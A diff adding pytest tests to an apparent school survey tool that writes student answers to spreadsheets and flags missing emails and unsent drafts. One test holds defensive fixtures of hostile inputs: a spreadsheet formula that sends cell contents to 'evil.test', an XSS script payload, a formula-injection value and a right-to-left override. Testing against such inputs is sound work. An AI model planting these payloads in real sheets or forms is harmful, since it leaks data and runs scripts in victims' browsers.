@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
 
@@ -219,3 +220,77 @@ def test_a_talk_counts_as_an_answer(town: Town) -> None:
     assert first["Use %"] == 0.5
     (round_,) = town.rows("Survey Rounds")
     assert (round_["Answered"], round_["Percent"]) == (1, 0.5)
+
+
+HOSTILE = {
+    "other": '=IMPORTXML("https://evil.test?"&A1,"//a")',
+    "goal": "<img src=x onerror=alert(1)><script>alert(2)</script>",
+    "who_could_help": "👩‍👩‍👧‍👦 +1 @SUM(A1)",
+    "anything_to_tell": "שלום \u202eright to left\u202c مرحبا " + "x" * 49_900,
+}
+
+
+def test_hostile_answers_are_stored_whole_as_text_and_shown_as_text(town: Town) -> None:
+    form = form_of(town)
+    first = helps_of(form)[0]
+    said = {(0 if field in ("who_could_help", "anything_to_tell") else first, field): text
+            for field, text in HOSTILE.items()}  # fmt: skip
+    answer(town, form, LENA, said)
+    town.rest()
+    stored = answers(town)[0]
+    titles = {"other": "Other", "goal": "Goal", "who_could_help": "Who Could Help",
+              "anything_to_tell": "Anything To Tell"}  # fmt: skip
+    assert {field: stored[title] for field, title in titles.items()} == HOSTILE
+    entered = town.owner.call(
+        "GET",
+        f"/v4/spreadsheets/{town.book}/values/Survey Answers",
+        params={"valueRenderOption": "FORMULA"},
+    )["values"][1]
+    assert HOSTILE["other"] in entered
+    page = town.owner.http.get(f"http://127.0.0.1/spreadsheets/d/{town.book}/edit?as={town.owner.email}").text
+    assert "<script>alert(2)" not in page
+    assert "onerror=alert(1)>" not in page.replace("&gt;", "")
+    assert told(town) == []
+
+
+def test_where_students_have_no_accounts_anybody_with_the_link_answers_and_no_name_is_asked(
+    tmp_path: Path,
+) -> None:
+    town = Town(tmp_path)
+    open_round(town, **{"Student accounts": False})
+    form = form_of(town)
+    made = forms(town).get(form.form_id)
+    assert made["settings"]["emailCollectionType"] == "DO_NOT_COLLECT"
+    assert "Lena" not in str(made) + form.link
+    assert "S001" not in str(made) + form.link
+    answer(town, form, "nobody", {})
+    town.rest()
+    assert [row["Student"] for row in town.rows("Survey Answers")] == ["S001", "S001"]
+    town.store.close()
+
+
+def test_with_accounts_a_student_without_one_gets_no_form_and_it_is_told(tmp_path: Path) -> None:
+    town = Town(tmp_path)
+    open_round(town)
+    town.type("Students", [{"Name": "Tom Ro", "Status": "direct"}], first=4)
+    town.type("Accommodations", [{"Student": "S003", "Accommodation": "Breaks", "Status": "active"}], first=6)
+    town.rest()
+    (problem,) = told(town)
+    assert "S003 has no Student Email" in problem
+    assert len(town.store.observed.forms(town.caseload.id)) == 2
+    town.store.close()
+
+
+def test_drafts_left_when_a_round_closes_are_told_until_they_are_gone(tmp_path: Path) -> None:
+    town = Town(tmp_path)
+    open_round(town, **{"Mail: survey invitation": "draft"})
+    town.pass_time(days=15)
+    town.rest()
+    (problem,) = told(town)
+    assert "never sent: 2" in problem
+    for draft in town.owner.drafts():
+        town.owner.call("DELETE", f"/gmail/v1/users/me/drafts/{draft['id']}")
+    town.pass_time(days=1)
+    town.rest()
+    assert told(town) == []
+    town.store.close()
